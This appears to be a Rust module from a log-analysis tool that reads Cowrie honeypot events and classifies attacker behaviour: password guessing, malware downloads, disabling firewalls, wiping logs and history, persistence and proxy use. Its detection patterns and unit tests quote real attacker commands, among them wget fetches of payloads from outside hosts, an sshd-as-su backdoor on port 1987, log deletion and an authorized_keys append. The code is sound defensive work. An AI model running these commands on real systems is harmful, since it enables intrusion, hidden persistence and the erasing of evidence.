//! SSH and Telnet honeypot behaviour (Cowrie): password guessing, logins, the commands run
//! after them, downloads, defence evasion, persistence and use as a proxy.

use std::collections::BTreeMap;

use crate::detection::human_span;
use crate::events::EventTable;

use super::{push_evidence, quote, Finding, FindingKind, Severity};

/// Failed logins that make password guessing.
const BRUTE_FORCE_MIN: usize = 5;

/// Commands quoted in a session's story.
const STORY_COMMANDS: usize = 3;

/// The command-line programs that fetch files.
const DOWNLOADERS: [&str; 6] = ["wget", "curl", "tftp", "ftpget", "lwp-download", "fetch"];

/// What a command line does, as far as the findings care.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum CommandClass {
    Download,
    ImpairDefences,
    IndicatorRemoval,
    Persistence,
}

impl CommandClass {
    fn kind(self) -> FindingKind {
        match self {
            CommandClass::Download => FindingKind::MalwareDownload,
            CommandClass::ImpairDefences => FindingKind::ImpairDefences,
            CommandClass::IndicatorRemoval => FindingKind::IndicatorRemoval,
            CommandClass::Persistence => FindingKind::Persistence,
        }
    }
}

/// One Cowrie session of a source, as the analyst reads it: how it connected, what it tried,
/// what it did once in.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct SessionStory {
    /// Cowrie's session id.
    pub id: String,
    /// `ssh` or `telnet`.
    pub protocol: String,
    /// The first and last event's time.
    pub start_us: Option<i64>,
    /// The last event's time.
    pub end_us: Option<i64>,
    /// The client's version banner.
    pub client: Option<String>,
    /// Failed logins, as `user/password`, in order.
    pub failed: Vec<String>,
    /// The successful login, as `user/password`.
    pub login: Option<String>,
    /// Command lines, in order.
    pub commands: Vec<String>,
    /// URLs it had the honeypot fetch.
    pub downloads: Vec<Download>,
    /// Hosts and ports it asked the honeypot to connect to (direct-tcpip).
    pub tunnels: Vec<String>,
    /// The session's events (table rows), in table order.
    pub rows: Vec<u32>,
}

/// A URL a session had the honeypot fetch.
#[derive(Debug, Clone, PartialEq)]
pub struct Download {
    /// The URL.
    pub url: String,
    /// The SHA-256 of the file, when Cowrie kept it.
    pub sha256: Option<String>,
    /// Whether the fetch failed.
    pub failed: bool,
}

impl std::fmt::Display for Download {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match (&self.sha256, self.failed) {
            (_, true) => write!(f, "{} (the honeypot could not fetch it)", self.url),
            (Some(h), false) => write!(f, "{} (sha256 {h})", self.url),
            (None, false) => f.write_str(&self.url),
        }
    }
}

impl SessionStory {
    /// Whether anything happened beyond failed logins.
    pub fn got_in(&self) -> bool {
        self.login.is_some() || !self.commands.is_empty() || !self.tunnels.is_empty()
    }

    /// The story in one sentence, quoting the log.
    pub fn sentence(&self) -> String {
        let mut parts = Vec::new();
        match self.failed.len() {
            0 => {}
            1 => parts.push(format!("1 failed login ({})", quote(&self.failed[0]))),
            n => parts.push(format!(
                "{n} failed logins ({}{})",
                self.failed
                    .iter()
                    .take(3)
                    .map(|f| quote(f))
                    .collect::<Vec<_>>()
                    .join(", "),
                if n > 3 { ", …" } else { "" }
            )),
        }
        if let Some(l) = &self.login {
            parts.push(format!("logged in as {}", quote(l)));
        }
        match self.commands.len() {
            0 => {}
            1 => parts.push(format!("ran {}", quote(&self.commands[0]))),
            n => parts.push(format!("ran {n} commands")),
        }
        let fetched = self.downloads.iter().filter(|d| !d.failed).count();
        match (self.downloads.len(), fetched) {
            (0, _) => {}
            (1, 1) => parts.push(format!("fetched {}", quote(&self.downloads[0].url))),
            (1, 0) => parts.push(format!(
                "tried to fetch {} (it failed)",
                quote(&self.downloads[0].url)
            )),
            (n, k) => parts.push(format!("had {n} files fetched ({k} succeeded)")),
        }
        match self.tunnels.len() {
            0 => {}
            1 => parts.push(format!("tunnelled to {}", self.tunnels[0])),
            n => parts.push(format!("tunnelled to {n} hosts")),
        }
        if parts.is_empty() {
            parts.push("connected and left".to_string());
        }
        let span = match (self.start_us, self.end_us) {
            (Some(a), Some(b)) if b > a => format!(" over {}", human_span(b - a)),
            _ => String::new(),
        };
        format!("{}{span}", parts.join(", "))
    }
}

/// The Cowrie sessions among `rows`, in order of their first event; events without a session
/// id are left out.
pub fn sessions(t: &EventTable, rows: &[u32]) -> Vec<SessionStory> {
    let mut order: Vec<SessionStory> = Vec::new();
    let mut index: BTreeMap<String, usize> = BTreeMap::new();
    for &r in rows {
        let row = r as usize;
        let Some(event) = t.outcome(row).and_then(|o| o.strip_prefix("cowrie.")) else {
            continue;
        };
        let Some(id) = t.detail_value(row, "session") else {
            continue;
        };
        let i = *index.entry(id.to_string()).or_insert_with(|| {
            order.push(SessionStory {
                id: id.to_string(),
                protocol: t.app_protocol(row).unwrap_or("").to_string(),
                ..SessionStory::default()
            });
            order.len() - 1
        });
        let s = &mut order[i];
        s.rows.push(r);
        if let Some(us) = t.time_us(row) {
            s.start_us = Some(s.start_us.map_or(us, |a| a.min(us)));
            s.end_us = Some(s.end_us.map_or(us, |b| b.max(us)));
        }
        let value = |k: &str| t.detail_value(row, k).unwrap_or("").to_string();
        let credentials = || format!("{}/{}", value("username"), value("password"));
        match event {
            "client.version" => s.client = t.detail_value(row, "version").map(str::to_string),
            "login.failed" => s.failed.push(credentials()),
            "login.success" => s.login = Some(credentials()),
            "command.input" => s.commands.push(value("input")),
            "session.file_download" | "session.file_download.failed" => {
                let url = value("url");
                if url.contains("://") {
                    s.downloads.push(Download {
                        url,
                        sha256: t.detail_value(row, "shasum").map(str::to_string),
                        failed: event.ends_with("failed"),
                    });
                }
            }
            "direct-tcpip.request" => s
                .tunnels
                .extend(t.detail_value(row, "tunnel").map(str::to_string)),
            _ => {}
        }
    }
    order
}

/// The programs of a command line: the first word of each `;`, `|` or `&` separated part,
/// without its directory, plus `busybox`'s applet.
fn words(command: &str) -> Vec<&str> {
    command
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '`'))
        .filter(|w| !w.is_empty())
        .map(|w| w.rsplit('/').next().unwrap_or(w))
        .collect()
}

/// The classes of a command line.
fn classify(command: &str) -> Vec<CommandClass> {
    let lower = command.to_ascii_lowercase();
    let w = words(&lower);
    let has = |x: &str| w.contains(&x);
    let mut out = Vec::new();
    if DOWNLOADERS.iter().any(|d| has(d)) {
        out.push(CommandClass::Download);
    }
    let firewall_off = (has("iptables") || has("ip6tables"))
        && w.iter()
            .any(|x| matches!(*x, "stop" | "-f" | "--flush" | "-x"))
        || has("ufw") && has("disable")
        || (has("firewalld") || has("firewalld.service")) && (has("stop") || has("disable"))
        || has("setenforce") && has("0")
        || has("chattr");
    if firewall_off {
        out.push(CommandClass::ImpairDefences);
    }
    let wipes = ["/var/log", "wtmp", "btmp", "lastlog", "bash_history"]
        .iter()
        .any(|p| lower.contains(p))
        && (has("rm") || lower.contains('>') || has("shred") || has("truncate"));
    let history_off = lower.contains("history -c")
        || lower.contains("unset hist")
        || lower.contains("histfile=/dev/null")
        || lower.contains("histsize=0");
    if wipes || history_off {
        out.push(CommandClass::IndicatorRemoval);
    }
    if persistence_technique(&lower).is_some() {
        out.push(CommandClass::Persistence);
    }
    out
}

/// The ATT&CK technique of a way back in that a command sets up, if it does: a scheduled job
/// (T1053.003), a key added to `authorized_keys` (T1098.004), or a second SSH daemon, such as
/// sshd linked as `su` so that PAM's su rules let any password in (T1556.003).
fn persistence_technique(lower: &str) -> Option<&'static str> {
    let w = words(lower);
    let has = |x: &str| w.contains(&x);
    if has("crontab") || lower.contains("/etc/cron") || lower.contains("rc.local") {
        Some("T1053.003")
    } else if lower.contains("authorized_keys") && (lower.contains('>') || has("tee")) {
        Some("T1098.004")
    } else if lower.contains("sshd") && (lower.contains("-oport=") || has("-p")) {
        Some("T1556.003")
    } else {
        None
    }
}

/// URLs named in a command line.
fn urls(command: &str) -> impl Iterator<Item = &str> {
    command
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '\'' | '"'))
        .filter_map(|w| {
            let start = ["http://", "https://", "ftp://", "tftp://"]
                .iter()
                .filter_map(|s| w.find(s))
                .min()?;
            Some(&w[start..])
        })
}

/// Cowrie findings over the rows of one source.
pub fn findings(t: &EventTable, rows: &[u32]) -> Vec<Finding> {
    let mut failed = Vec::new();
    let mut users: BTreeMap<String, usize> = BTreeMap::new();
    let mut passwords: BTreeMap<String, usize> = BTreeMap::new();
    let mut logins: Vec<(u32, String, String)> = Vec::new();
    let mut commands: Vec<(u32, String)> = Vec::new();
    let mut downloads: Vec<(u32, String, Option<String>, bool)> = Vec::new();
    let mut tunnels = Vec::new();
    for &r in rows {
        let row = r as usize;
        let Some(outcome) = t.outcome(row) else {
            continue;
        };
        let Some(event) = outcome.strip_prefix("cowrie.") else {
            continue;
        };
        let value = |k: &str| t.detail_value(row, k).unwrap_or("").to_string();
        match event {
            "login.failed" => {
                failed.push(r);
                *users.entry(value("username")).or_default() += 1;
                *passwords.entry(value("password")).or_default() += 1;
            }
            "login.success" => logins.push((r, value("username"), value("password"))),
            "command.input" => commands.push((r, value("input"))),
            "session.file_download" | "session.file_download.failed" => {
                let url = value("url");
                // Cowrie records what a command redirects to a file as a "download" from
                // that path; only a fetched URL is one.
                if url.contains("://") {
                    let hash = t.detail_value(row, "shasum").map(str::to_string);
                    downloads.push((r, url, hash, event.ends_with("failed")));
                }
            }
            "direct-tcpip.request" => tunnels.push(r),
            _ => {}
        }
    }
    let mut out = Vec::new();
    if failed.len() >= BRUTE_FORCE_MIN {
        out.push(brute_force(t, &failed, &users, &passwords));
    }
    let login_story = (!logins.is_empty()).then(|| {
        let (_, user, password) = &logins[0];
        let first_login = logins[0].0;
        let before = failed.iter().filter(|&&f| f < first_login).count();
        let attempts = match before {
            0 => "on the first attempt".to_string(),
            1 => "after 1 failed attempt".to_string(),
            n => format!("after {n} failed attempts"),
        };
        let times = match logins.len() {
            1 => String::new(),
            n => format!(" ({n} logins)"),
        };
        let who = if user.is_empty() {
            "an empty username"
        } else {
            user
        };
        let with = if password.is_empty() {
            "an empty password".to_string()
        } else {
            format!("password {}", quote(password))
        };
        format!("logged in as {who} ({with}) {attempts}{times}")
    });
    if let Some(story) = &login_story {
        let mut evidence = Vec::new();
        for (_, u, p) in &logins {
            push_evidence(&mut evidence, &format!("{u}/{p}"));
        }
        let rows = logins.iter().map(|l| l.0).collect();
        out.push(Finding::new(
            FindingKind::ValidLogin,
            story.clone(),
            evidence,
            rows,
        ));
    }
    if !commands.is_empty() {
        out.extend(command_findings(
            &commands,
            &downloads,
            login_story.as_deref(),
        ));
    } else if !downloads.is_empty() {
        out.push(download_finding(&[], &downloads));
    }
    if !tunnels.is_empty() {
        out.push(proxy(t, &tunnels));
    }
    out
}

fn brute_force(
    t: &EventTable,
    failed: &[u32],
    users: &BTreeMap<String, usize>,
    passwords: &BTreeMap<String, usize>,
) -> Finding {
    let times: Vec<i64> = failed
        .iter()
        .filter_map(|&r| t.time_us(r as usize))
        .collect();
    let span = match (times.iter().min(), times.iter().max()) {
        (Some(a), Some(b)) if b > a => format!(" over {}", human_span(b - a)),
        _ => String::new(),
    };
    let mut top: Vec<(&String, &usize)> = users.iter().collect();
    top.sort_by(|a, b| b.1.cmp(a.1).then(a.0.cmp(b.0)));
    let named: Vec<String> = top
        .iter()
        .take(3)
        .map(|(u, n)| {
            let u = if u.is_empty() { "(empty)" } else { u.as_str() };
            format!("{u} ×{n}")
        })
        .collect();
    let mut f = Finding::new(
        FindingKind::BruteForce,
        format!(
            "{} failed logins with {} and {}{span} (most tried: {})",
            failed.len(),
            match users.len() {
                1 => "1 username".to_string(),
                n => format!("{n} usernames"),
            },
            match passwords.len() {
                1 => "1 password".to_string(),
                n => format!("{n} passwords"),
            },
            named.join(", ")
        ),
        top.iter().map(|(u, _)| u.to_string()).take(20).collect(),
        failed.to_vec(),
    );
    // 5 failures weigh 0.4, 100 or more the kind's full weight.
    let scale = ((failed.len() as f64).ln() - 5f64.ln()) / (100f64.ln() - 5f64.ln());
    f.weight = 0.4 + (f.weight - 0.4) * scale.clamp(0.0, 1.0);
    f
}

/// The shell session's story, and one finding per class of command it ran.
fn command_findings(
    commands: &[(u32, String)],
    downloads: &[(u32, String, Option<String>, bool)],
    login: Option<&str>,
) -> Vec<Finding> {
    let classes: Vec<Vec<CommandClass>> = commands.iter().map(|(_, c)| classify(c)).collect();
    // The story quotes the first command of each class, in class order, then the others.
    let mut quoted: Vec<usize> = Vec::new();
    for class in [
        CommandClass::Download,
        CommandClass::ImpairDefences,
        CommandClass::IndicatorRemoval,
        CommandClass::Persistence,
    ] {
        if let Some(i) = classes.iter().position(|c| c.contains(&class)) {
            if !quoted.contains(&i) {
                quoted.push(i);
            }
        }
    }
    for i in 0..commands.len() {
        let repeat = quoted
            .iter()
            .any(|&q| commands[q].1.trim() == commands[i].1.trim());
        if !repeat {
            quoted.push(i);
        }
    }
    let lines: Vec<String> = quoted
        .iter()
        .take(STORY_COMMANDS)
        .map(|&i| quote(&commands[i].1))
        .collect();
    let n = commands.len();
    let ran = match n {
        1 => format!("ran {}", lines[0]),
        _ if n <= STORY_COMMANDS => format!("ran {n} commands: {}", lines.join("; ")),
        _ => format!("ran {n} commands, among them {}", lines.join("; ")),
    };
    let summary = match login {
        Some(l) => format!("{l}, then {ran}"),
        None => ran,
    };
    let mut evidence = Vec::new();
    for (_, c) in commands {
        push_evidence(&mut evidence, c.trim());
    }
    let worst = classes
        .iter()
        .flatten()
        .map(|c| c.kind().severity())
        .max()
        .unwrap_or(Severity::High)
        .max(Severity::High);
    let mut story = Finding::new(
        FindingKind::ShellCommands,
        summary,
        evidence,
        commands.iter().map(|c| c.0).collect(),
    );
    story.severity = worst;
    let mut out = vec![story];
    for class in [
        CommandClass::ImpairDefences,
        CommandClass::IndicatorRemoval,
        CommandClass::Persistence,
    ] {
        let hits: Vec<&(u32, String)> = commands
            .iter()
            .zip(&classes)
            .filter(|(_, c)| c.contains(&class))
            .map(|(cmd, _)| cmd)
            .collect();
        if hits.is_empty() {
            continue;
        }
        let mut evidence = Vec::new();
        for (_, c) in &hits {
            push_evidence(&mut evidence, c.trim());
        }
        let what = match class {
            CommandClass::ImpairDefences => "disabled defences with",
            CommandClass::IndicatorRemoval => "removed its traces with",
            _ => "set up a way back in with",
        };
        let shown: Vec<String> = evidence.iter().take(3).map(|c| quote(c)).collect();
        let mut f = Finding::new(
            class.kind(),
            format!("{what} {}", shown.join("; ")),
            evidence,
            hits.iter().map(|c| c.0).collect(),
        );
        if class == CommandClass::Persistence {
            let first = hits[0].1.to_ascii_lowercase();
            f.technique = persistence_technique(&first).unwrap_or(f.technique);
        }
        out.push(f);
    }
    let fetched: Vec<(u32, String)> = commands
        .iter()
        .zip(&classes)
        .filter(|(_, c)| c.contains(&CommandClass::Download))
        .map(|(cmd, _)| cmd.clone())
        .collect();
    if !fetched.is_empty() || !downloads.is_empty() {
        out.push(download_finding(&fetched, downloads));
    }
    out
}

/// The files fetched, by commands or as recorded downloads.
fn download_finding(
    commands: &[(u32, String)],
    downloads: &[(u32, String, Option<String>, bool)],
) -> Finding {
    let mut evidence = Vec::new();
    let mut rows: Vec<u32> = commands.iter().map(|c| c.0).collect();
    for (_, c) in commands {
        for u in urls(c) {
            push_evidence(&mut evidence, u);
        }
    }
    let mut failed = Vec::new();
    for (r, url, hash, did_fail) in downloads {
        rows.push(*r);
        push_evidence(&mut evidence, url);
        if let Some(h) = hash {
            push_evidence(&mut evidence, &format!("sha256 {h}"));
        }
        if *did_fail {
            failed.push(url.as_str());
        }
    }
    rows.sort_unstable();
    rows.dedup();
    let urls: Vec<&String> = evidence.iter().filter(|e| e.contains("://")).collect();
    let mut summary = match urls.len() {
        0 => format!(
            "ran {}",
            commands
                .iter()
                .map(|c| quote(&c.1))
                .take(3)
                .collect::<Vec<_>>()
                .join("; ")
        ),
        _ => format!(
            "tried to download {}",
            urls.iter()
                .take(4)
                .map(|u| u.as_str())
                .collect::<Vec<_>>()
                .join(", ")
        ),
    };
    if !failed.is_empty() {
        summary.push_str(&format!(
            " (the honeypot could not fetch {})",
            failed.join(", ")
        ));
    }
    Finding::new(FindingKind::MalwareDownload, summary, evidence, rows)
}

fn proxy(t: &EventTable, tunnels: &[u32]) -> Finding {
    let mut hosts: BTreeMap<String, usize> = BTreeMap::new();
    let mut ports: BTreeMap<u16, usize> = BTreeMap::new();
    for &r in tunnels {
        let row = r as usize;
        if let Some(ip) = t.destination_ip(row) {
            *hosts.entry(ip.to_string()).or_default() += 1;
        }
        if let Some(p) = t.destination_port(row) {
            *ports.entry(p).or_default() += 1;
        }
    }
    let mut top: Vec<(&String, &usize)> = hosts.iter().collect();
    top.sort_by(|a, b| b.1.cmp(a.1).then(a.0.cmp(b.0)));
    let port_list: Vec<String> = ports.keys().map(u16::to_string).collect();
    let on = match port_list.len() {
        0 => String::new(),
        1 => format!(" on port {}", port_list[0]),
        _ => format!(" on ports {}", port_list.join(", ")),
    };
    let hosts_word = if hosts.len() == 1 { "host" } else { "hosts" };
    let shown: Vec<&str> = top.iter().take(4).map(|(h, _)| h.as_str()).collect();
    Finding::new(
        FindingKind::ProxyUse,
        format!(
            "tried to use the honeypot as a proxy to {} {hosts_word}{on} ({} requests; {})",
            hosts.len(),
            tunnels.len(),
            shown.join(", ")
        ),
        top.iter().map(|(h, _)| h.to_string()).take(20).collect(),
        tunnels.to_vec(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_classified_by_what_they_run() {
        use CommandClass::*;
        assert_eq!(classify("wget http://mdb7.cn:8081/exp"), [Download]);
        assert_eq!(classify("cd /tmp; busybox wget http://x/y"), [Download]);
        assert_eq!(classify("service iptables stop"), [ImpairDefences]);
        assert_eq!(classify("rm -f /var/log/wtmp"), [IndicatorRemoval]);
        assert_eq!(
            classify("unset HISTORY HISTFILE HISTSAVE ; history -n ; export HISTFILE=/dev/null"),
            [IndicatorRemoval]
        );
        assert_eq!(classify("crontab -l"), [Persistence]);
        // cowrie.json.2018-05-19, 111.73.46.18's first command: sshd linked as su on port 1987.
        let backdoor = "ln -sf /usr/sbin/sshd /tmp/su;/tmp/su -oPort=1987";
        assert_eq!(classify(backdoor), [Persistence]);
        assert_eq!(
            persistence_technique(&backdoor.to_ascii_lowercase()),
            Some("T1556.003")
        );
        assert_eq!(
            persistence_technique("echo ssh-rsa aaaa >> ~/.ssh/authorized_keys"),
            Some("T1098.004")
        );
        assert!(classify("cat ~/.ssh/authorized_keys").is_empty());
        assert!(classify("ps aux | grep sshd").is_empty());
        assert!(classify("cat /proc/cpuinfo").is_empty());
        assert!(classify("rm -rf exp").is_empty());
        assert!(classify("echo wgetting").is_empty());
    }

    #[test]
    fn a_story_says_which_downloads_arrived() {
        let fetched = |failed: bool| Download {
            url: "http://mdb7.cn:8081/exp".into(),
            sha256: (!failed).then(|| "f8c2".to_string()),
            failed,
        };
        let mut s = SessionStory {
            login: Some("root/1234".into()),
            downloads: vec![fetched(false)],
            start_us: Some(0),
            end_us: Some(120_000_000),
            ..SessionStory::default()
        };
        assert_eq!(
            s.sentence(),
            "logged in as `root/1234`, fetched `http://mdb7.cn:8081/exp` over 2 min"
        );
        assert_eq!(
            s.downloads[0].to_string(),
            "http://mdb7.cn:8081/exp (sha256 f8c2)"
        );
        s.downloads.push(fetched(true));
        assert!(s.sentence().contains("had 2 files fetched (1 succeeded)"));
        assert!(SessionStory::default()
            .sentence()
            .starts_with("connected and left"));
    }

    #[test]
    fn urls_are_taken_from_commands() {
        let u: Vec<&str> = urls("wget -P/tmp http://111.73.46.18/xcsyn\n").collect();
        assert_eq!(u, ["http://111.73.46.18/xcsyn"]);
        let u: Vec<&str> = urls("curl -O'http://a/b';tftp -g -r x 1.2.3.4").collect();
        assert_eq!(u, ["http://a/b"]);
    }
}
